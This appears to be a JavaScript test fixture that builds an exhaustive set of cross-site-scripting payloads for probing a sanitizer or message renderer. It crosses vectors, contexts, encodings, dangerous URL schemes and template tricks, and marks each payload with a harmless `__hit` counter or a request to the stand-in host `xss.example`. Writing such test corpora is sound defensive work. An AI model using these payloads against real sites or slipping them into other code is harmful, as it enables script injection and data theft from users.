// Hostile texts, made by crossing what could run with where it could break out and how it could be written. Each would set
// `__hit` to its own number or ask `xss.example` for something, so a hit names its payload.

/** What runs, if markup in a text ever became markup of the page. `j` is the script, `n` the number. */
const VECTORS = [
  (j) => `<script>${j}</script>`,
  (j) => `<img src=x onerror=${j}>`,
  (j) => `<svg/onload=${j}>`,
  (j) => `<svg><animate onbegin=${j} attributeName=x dur=1s>`,
  (j) => `<svg><a xlink:href="javascript:${j}"><text y=20>x</text></a></svg>`,
  (j) => `<math><a xlink:href="javascript:${j}">x</a></math>`,
  (j) => `<iframe srcdoc="<script>parent.${j}</script>"></iframe>`,
  (j) => `<iframe src="javascript:parent.${j}"></iframe>`,
  (j) => `<a href="javascript:${j}" autofocus>x</a>`,
  (j) => `<form action="javascript:${j}"><input type=submit autofocus></form>`,
  (j) => `<button formaction="javascript:${j}" autofocus>x</button>`,
  (j) => `<object data="javascript:${j}"></object>`,
  (j) => `<embed src="javascript:${j}">`,
  (j) => `<input autofocus onfocus=${j}>`,
  (j) => `<details open ontoggle=${j}>x</details>`,
  (j) => `<video><source onerror=${j}></video>`,
  (j) => `<audio src=x onerror=${j}></audio>`,
  (j) => `<marquee onstart=${j}>x</marquee>`,
  (j) => `<body onload=${j}>`,
  (j) => `<div onpointerenter=${j}>x</div>`,
  (j) => `<style>@keyframes x{}</style><b style="animation:x" onanimationstart=${j}>x</b>`,
  (j) => `<template shadowrootmode=open><img src=x onerror=${j}></template>`,
  (j) => `<noscript><p title="</noscript><img src=x onerror=${j}>">`,
  (j) => `<math><mtext><table><mglyph><style><img src=x onerror=${j}>`,
  (_, n) => `<script src=https://xss.example/${n}.js></script>`,
  (_, n) => `<img src=https://xss.example/${n}.gif>`,
  (_, n) => `<link rel=stylesheet href=https://xss.example/${n}.css>`,
  (_, n) => `<style>@import "https://xss.example/${n}.css";*{display:none}</style>`,
  (_, n) => `<b style="background:url(https://xss.example/${n})">x</b>`,
  (_, n) => `<base href=https://xss.example/${n}/>`,
  (_, n) => `<meta http-equiv=refresh content="0;url=https://xss.example/${n}">`,
  (_, n) => `<video poster=https://xss.example/${n}.png></video>`,
]

/** Where the text may stand when it is put into something: attributes, elements with text of their own, comments, marks. */
const CONTEXTS = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `</title></textarea></style></script>${v}`,
  (v) => `--><!--${v}-->`,
  (v) => `*${v}*`,
  (v) => '`' + v + '`',
  (v) => `&gt; ${v}`,
  (v) => `:${v}:`,
  (v) => `<https://example.org|${v}>`,
]

/** How it may be written, for readers that decode once too often. */
const entities = (text, to) => [...text].map((c) => (/[<>"'=:/]/.test(c) ? to(c.codePointAt(0)) : c)).join('')
const ENCODINGS = [
  (v) => v.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (v) => entities(v, (code) => `&#${code};`),
  (v) => entities(v, (code) => `&#x${code.toString(16)}`),
  (v) => encodeURIComponent(v),
  (v) => entities(v, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (v) => v.replace(/<(\w)/g, '<\u0000$1'),
  (v) => v.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (v) => v.replace(/[a-z]/g, (c, at) => (at % 2 ? c.toUpperCase() : c)).replaceAll('__HIt', '__hit').replaceAll('__hIt', '__hit'),
]

/** Addresses that must never become a link or be fetched. */
const ADDRESSES = [
  (j) => `javascript:${j}`,
  (j) => `JaVaScRiPt:${j}`,
  (j) => `java\tscript:${j}`,
  (j) => `java\nscript:${j}`,
  (j) => `\u0001javascript:${j}`,
  (j) => ` javascript:${j}`,
  (j) => `javascript&colon;${j}`,
  (j) => `&#106;avascript:${j}`,
  (j) => `javascript\u200b:${j}`,
  (j) => `javascript://example.org/%0a${j}`,
  (j) => `vbscript:${j}`,
  (j) => `data:text/html,<script>${j}</script>`,
  (j) => `data:text/html;base64,${btoa(`<script>${j}</script>`)}`,
  (j) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${j}'/>`,
  (j) => `blob:https://example.org/${j}`,
  (j) => `view-source:javascript:${j}`,
  (j) => `feed:javascript:${j}`,
  (j) => `filesystem:https://example.org/${j}`,
  (j) => `about:blank#${j}`,
  (j) => `file:///etc/passwd#${j}`,
  (_, n) => `//xss.example/${n}`,
  (_, n) => `\\\\xss.example\\${n}`,
  (j) => `https://example.org/"onmouseover="${j}`,
  (j) => `https://example.org/'onfocus='${j}' autofocus='`,
  (j) => `https://example.org/><img/src=x/onerror=${j}>`,
  (j) => `https://javascript:${j}@example.org/`,
]

/** How an address may stand in a text. */
const LINKS = [
  (a) => a,
  (a) => `<${a}>`,
  (a) => `<${a}|click me>`,
  (a) => `[click me](${a})`,
  (a) => `<!date^1700000000^{date}^${a}|then>`,
]

/** What is none of these. */
const SPECIALS = [
  (j) => `{{constructor.constructor("${j}")()}}`,
  (j) => '${' + j + '}',
  (j) => `{@html "<img src=x onerror=${j}>"}`,
  (j) => `<%= ${j} %>`,
  (j) => `<@U1|<img src=x onerror=${j}>>`,
  (j) => `<#C1|<img src=x onerror=${j}>>`,
  (j) => `<!subteam^S1|<img src=x onerror=${j}>>`,
  (j) => `<!here|<svg onload=${j}>>`,
  (j) => `<!__proto__^1|<svg onload=${j}>>`,
  (j) => `\u202e<script>${j}</script>`,
  (j) => `+ADw-script+AD4-${j}+ADw-/script+AD4-`,
  (j) => '```html\n<script>' + j + '</script>\n```',
  (j) => `__proto__[innerHTML]=<img src=x onerror=${j}>`,
  (j) => `<img src=x onerror=${j}//`,
  (j) => `<<script>${j}//<</script>`,
  (j) => `<scr<script>ipt>${j}</scr</script>ipt>`,
]

/** All of them, each once. */
export function payloads() {
  const makers = [
    ...VECTORS.flatMap((vector) => CONTEXTS.map((context) => (j, n) => context(vector(j, n)))),
    ...VECTORS.slice(0, 8).flatMap((vector) => ENCODINGS.map((encoding) => (j, n) => encoding(vector(j, n)))),
    ...ADDRESSES.flatMap((address) => LINKS.map((link) => (j, n) => link(address(j, n)))),
    ...SPECIALS,
  ]
  return makers.map((maker, n) => maker(`__hit=${n}`, n))
}

/** Bare addresses, for fields that hold one. */
export const addresses = () => ADDRESSES.map((address, n) => address(`__hit=${10_000 + n}`, 10_000 + n))

/** Texts of at most `most` characters that hold all payloads, several beside each other where there is room. */
export function packed(list, most, between = '\n') {
  const texts = []
  for (const payload of list) {
    const cut = payload.slice(0, most)
    const last = texts.at(-1)
    // A fence would swallow the lines below it.
    if (last !== undefined && !last.includes('```') && !cut.includes('```') && last.length + 1 + cut.length <= most) texts[texts.length - 1] = `${last}${between}${cut}`
    else texts.push(cut)
  }
  return texts
}
